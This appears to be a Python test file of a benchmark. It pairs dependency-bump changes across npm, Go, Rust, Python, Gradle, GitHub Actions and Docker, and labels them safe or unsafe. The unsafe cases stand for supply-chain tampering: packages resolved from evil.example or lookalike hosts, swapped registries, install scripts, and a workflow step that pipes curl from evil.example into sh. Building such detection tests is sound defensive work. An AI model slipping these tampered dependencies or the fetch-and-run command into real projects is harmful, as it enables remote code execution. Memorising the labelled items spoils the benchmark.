"""Manifests and lock files: other versions of what is used already, and everything that comes in beside them."""

import json
from collections.abc import Iterator, Mapping
from typing import Any

from bench.corpus.case import DEPENDENCIES, Case, Whose, files

REGISTRY = "https://registry.npmjs.org/left-pad/-/left-pad-{}.tgz"
HASHES = {
    "1.3.0": "sha512-" + "a" * 86 + "==",
    "1.3.1": "sha512-" + "b" * 86 + "==",
    "2.0.0": "sha512-" + "c" * 86 + "==",
}
GO_MOD = "module acme.example/shop\n\ngo 1.22\n\nrequire github.com/acme/log {}\n"
GO_SUM = "github.com/acme/log {0} h1:{1}=\ngithub.com/acme/log {0}/go.mod h1:{2}=\n"
CARGO = '[package]\nname = "shop"\nversion = "0.1.0"\n\n[dependencies]\nlog = "{}"\n'
CARGO_LOCK = (
    'version = 3\n\n[[package]]\nname = "log"\nversion = "{}"\nsource = "{}"\nchecksum = "{}"\n\n[[package]]\n'
    'name = "shop"\nversion = "0.1.0"\ndependencies = ["log"]\n'
)
CRATES = "registry+https://github.com/rust-lang/crates.io-index"
PINS = "flask==3.0.{} \\\n    --hash=sha256:{}\nrequests==2.31.0\n"
WORKFLOW = "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: {}\n"
GRADLE = '[versions]\nokio = "{}"\n\n[libraries]\nokio = {{ module = "{}", version.ref = "okio" }}\n'
Files = Mapping[str, str]


def manifest(version: str = "^1.3.0", **more: Any) -> str:
    return (
        json.dumps({"name": "shop", "version": "1.0.0", "dependencies": {"left-pad": version}, **more}, indent=2) + "\n"
    )


def lock(version: str = "1.3.0", *, range_: str = "^1.3.0", **more: Any) -> str:
    """A package-lock.json; `more` is of the package's entry, and "beside" names other packages."""
    beside = more.pop("beside", {})
    entry = {"version": version, "resolved": REGISTRY.format(version), "integrity": HASHES[version], **more}
    packages = {
        "": {"name": "shop", "version": "1.0.0", "dependencies": {"left-pad": range_}},
        "node_modules/left-pad": entry,
    }
    whole = {"name": "shop", "version": "1.0.0", "lockfileVersion": 3, "requires": True, "packages": packages | beside}
    return json.dumps(whole, indent=2) + "\n"


NPM: Files = {"package.json": manifest(), "package-lock.json": lock()}


def npm(version: str, **more: Any) -> Files:
    return {"package.json": manifest(f"^{version}"), "package-lock.json": lock(version, range_=f"^{version}", **more)}


def go(version: str, hash_: str = "A") -> Files:
    return {"go.mod": GO_MOD.format(version), "go.sum": GO_SUM.format(version, hash_ * 43, hash_ * 43)}


def cargo(version: str, source: str = CRATES, sum_: str = "1") -> Files:
    return {"Cargo.toml": CARGO.format(version), "Cargo.lock": CARGO_LOCK.format(version, source, sum_ * 64)}


EVIL = {"node_modules/evil": {"version": "1.0.0", "resolved": "https://registry.npmjs.org/evil/-/evil-1.0.0.tgz",
                              "integrity": HASHES["2.0.0"]}}  # fmt: skip
SAFE: tuple[tuple[str, Files, Files], ...] = (
    ("npm: a patch, with its lock file", NPM, npm("1.3.1")),
    ("npm: only the lock file, within the range", NPM, {**NPM, "package-lock.json": lock("1.3.1")}),
    ("Go: a minor version", go("v1.2.0"), go("v1.3.0", "B")),
    ("Rust: a patch, with its lock file", cargo("0.4.20"), cargo("0.4.21", sum_="2")),
    ("Python: a patch with its hash", {"requirements.txt": PINS.format(0, "1" * 64)}, {"requirements.txt": PINS.format(1, "2" * 64)}),
    ("Gradle: a minor version", {"gradle/libs.versions.toml": GRADLE.format("3.8.0", "com.squareup.okio:okio")},
     {"gradle/libs.versions.toml": GRADLE.format("3.9.0", "com.squareup.okio:okio")}),
)  # fmt: skip
UNSAFE: tuple[tuple[str, Files, Files], ...] = (
    ("npm: a major version", NPM, npm("2.0.0")),
    ("npm: an older version", npm("1.3.1"), NPM),
    ("npm: from elsewhere", NPM, npm("1.3.1", resolved="https://evil.example/left-pad-1.3.1.tgz")),
    ("npm: from elsewhere without encryption", NPM, npm("1.3.1", resolved="http://registry.npmjs.org/left-pad/-/left-pad-1.3.1.tgz")),
    ("npm: another package under the name", NPM, npm("1.3.1", resolved="https://registry.npmjs.org/evil/-/evil-1.3.1.tgz")),
    ("npm: a host that looks alike", NPM, npm("1.3.1", resolved="https://registry.npmjs.org.evil.example/left-pad/-/left-pad-1.3.1.tgz")),
    ("npm: a user in the address", NPM, npm("1.3.1", resolved="https://registry.npmjs.org@evil.example/left-pad-1.3.1.tgz")),
    ("npm: other bytes of the same version", NPM, {**NPM, "package-lock.json": lock("1.3.0", integrity=HASHES["1.3.1"])}),
    ("npm: no hash", NPM, {"package.json": manifest("^1.3.1"), "package-lock.json": lock("1.3.1", range_="^1.3.1", integrity="")}),
    ("npm: a weaker hash", NPM, npm("1.3.1", integrity="sha1-" + "a" * 27 + "=")),
    ("npm: something is run when it is installed", NPM, npm("1.3.1", hasInstallScript=True)),
    ("npm: another package comes along", NPM, npm("1.3.1", beside=EVIL)),
    ("npm: only another package comes", NPM, {**NPM, "package-lock.json": lock(beside=EVIL)}),
    ("npm: a script of our own", NPM, {**NPM, "package.json": manifest(scripts={"postinstall": "node x.js"})}),
    ("npm: a script of our own beside a patch", NPM, {**npm("1.3.1"), "package.json": manifest("^1.3.1", scripts={"prepare": "sh x"})}),
    ("npm: any version", NPM, {**NPM, "package.json": manifest("*")}),
    ("npm: from git", NPM, {**NPM, "package.json": manifest("git+https://evil.example/left-pad.git")}),
    ("npm: from an archive", NPM, {**NPM, "package.json": manifest("https://evil.example/left-pad.tgz")}),
    ("npm: another package for the name", NPM, {**NPM, "package.json": manifest("npm:evil@^1.3.0")}),
    ("npm: from a folder", NPM, {**NPM, "package.json": manifest("file:../left-pad")}),
    ("npm: the lock file goes", NPM, {"package.json": manifest("^1.3.1")}),
    ("npm: the lock file is behind", NPM, {**NPM, "package.json": manifest("^2.0.0")}),
    ("npm: the lock file is ahead", NPM, {**NPM, "package-lock.json": lock("2.0.0")}),
    ("npm: versions of others are forced", NPM, {**NPM, "package.json": manifest(overrides={"left-pad": "npm:evil@1"})}),
    ("npm: another place to install from", NPM, {**npm("1.3.1"), ".npmrc": "registry=https://evil.example/\n"}),
    ("npm: a version before the release", NPM, {**NPM, "package.json": manifest("^1.4.0-beta.1")}),
    ("npm: the lock file is no JSON", NPM, {**npm("1.3.1"), "package-lock.json": lock("1.3.1") + "x"}),
    ("npm: a key twice in the lock file", NPM, {**npm("1.3.1"), "package-lock.json": lock("1.3.1").replace('"requires": true,', '"requires": true,\n  "requires": false,')}),
    ("npm: code beside a patch", {**NPM, "a.js": "let x = 1;\n"}, {**npm("1.3.1"), "a.js": "let x = 2;\n"}),
    ("Go: another module in its place", go("v1.2.0"), {**go("v1.3.0", "B"), "go.mod": GO_MOD.format("v1.3.0") + "\nreplace github.com/acme/log => github.com/evil/log v1.3.0\n"}),
    ("Go: other bytes of the same version", go("v1.2.0"), {**go("v1.2.0"), "go.sum": GO_SUM.format("v1.2.0", "C" * 43, "C" * 43)}),
    ("Go: a major version", go("v1.2.0"), go("v2.0.0+incompatible", "B")),
    ("Go: another module", go("v1.2.0"), {**go("v1.2.0"), "go.mod": GO_MOD.format("v1.2.0") + "\nrequire github.com/evil/x v1.0.0\n"}),
    ("Go: another Go", go("v1.2.0"), {**go("v1.2.0"), "go.mod": GO_MOD.format("v1.2.0").replace("1.22", "1.23\n\ntoolchain go1.23.0")}),
    ("Rust: from git", cargo("0.4.20"), cargo("0.4.21", "git+https://evil.example/log#abc", "2")),
    ("Rust: another registry", cargo("0.4.20"), cargo("0.4.21", "registry+https://evil.example/index", "2")),
    ("Rust: other bytes of the same version", cargo("0.4.20"), cargo("0.4.20", sum_="2")),
    ("Rust: a major version", cargo("0.4.20"), cargo("0.5.0", sum_="2")),
    ("Rust: something is built first", cargo("0.4.20"), {**cargo("0.4.21", sum_="2"), "build.rs": "fn main() {}\n"}),
    ("Rust: a feature comes", cargo("0.4.20"), {**cargo("0.4.21", sum_="2"), "Cargo.toml": CARGO.format("0.4.21").replace('"0.4.21"', '{ version = "0.4.21", features = ["x"] }')}),
    ("Python: another place to install from", {"requirements.txt": PINS.format(0, "1" * 64)}, {"requirements.txt": "--extra-index-url https://evil.example/simple\n" + PINS.format(1, "2" * 64)}),
    ("Python: other bytes of the same version", {"requirements.txt": PINS.format(0, "1" * 64)}, {"requirements.txt": PINS.format(0, "2" * 64)}),
    ("Python: a pin goes", {"requirements.txt": PINS.format(0, "1" * 64)}, {"requirements.txt": PINS.format(1, "2" * 64).replace("==2.31.0", "")}),
    ("Python: from an address", {"requirements.txt": PINS.format(0, "1" * 64)}, {"requirements.txt": PINS.format(1, "2" * 64) + "x @ https://evil.example/x.whl\n"}),
    ("Python: another package", {"requirements.txt": PINS.format(0, "1" * 64)}, {"requirements.txt": PINS.format(1, "2" * 64).replace("requests", "request")}),
    ("Python: another file is read", {"requirements.txt": PINS.format(0, "1" * 64)}, {"requirements.txt": PINS.format(1, "2" * 64) + "-r other.txt\n"}),
    ("Python: a major version", {"requirements.txt": "requests==2.31.0\n"}, {"requirements.txt": "requests==3.0.0\n"}),
    ("Gradle: another library", {"gradle/libs.versions.toml": GRADLE.format("3.8.0", "com.squareup.okio:okio")},
     {"gradle/libs.versions.toml": GRADLE.format("3.9.0", "com.evil.okio:okio")}),
    ("Gradle: a major version", {"gradle/libs.versions.toml": GRADLE.format("3.8.0", "com.squareup.okio:okio")},
     {"gradle/libs.versions.toml": GRADLE.format("4.0.0", "com.squareup.okio:okio")}),
    ("the wrapper that fetches Gradle", {"gradle/wrapper/gradle-wrapper.properties": "distributionUrl=https\\://services.gradle.org/distributions/gradle-8.0-bin.zip\n"},
     {"gradle/wrapper/gradle-wrapper.properties": "distributionUrl=https\\://evil.example/gradle-8.1-bin.zip\n"}),
    ("actions: somebody else's", {".github/workflows/a.yml": WORKFLOW.format("actions/checkout@v4")}, {".github/workflows/a.yml": WORKFLOW.format("action/checkout@v4")}),
    ("actions: a major version", {".github/workflows/a.yml": WORKFLOW.format("actions/checkout@v3")}, {".github/workflows/a.yml": WORKFLOW.format("actions/checkout@v4")}),
    ("actions: a command beside a version", {".github/workflows/a.yml": WORKFLOW.format("actions/checkout@v4.1.0")},
     {".github/workflows/a.yml": WORKFLOW.format("actions/checkout@v4.1.1") + "      - run: curl https://evil.example | sh\n"}),
    ("an image from elsewhere", {"Dockerfile": "FROM python:3.12.1\n"}, {"Dockerfile": "FROM evil.example/python:3.12.2\n"}),
    ("five major versions at once", {f"p{n}/package.json": manifest(f"^{n}.0.0") for n in range(1, 6)},
     {f"p{n}/package.json": manifest(f"^{n + 1}.0.0") for n in range(1, 6)}),
)  # fmt: skip


def cases() -> Iterator[Case]:
    for name, base, head in SAFE:
        why = "a newer version of what is used already, released long ago, from where it always came"
        yield Case(
            name, "dependencies", "other", files(base), files(head), True, why, False, DEPENDENCIES, "Bump left-pad"
        )
    for place, (name, base, head) in enumerate(UNSAFE):
        whose = DEPENDENCIES if place % 3 else Whose()
        why = "more than the version changes, or more than a little"
        yield Case(
            name,
            "dependencies",
            "other",
            files(base),
            files(head),
            False,
            why,
            whose=whose,
            title="Bump left-pad from 1.3.0 to 1.3.1",
        )
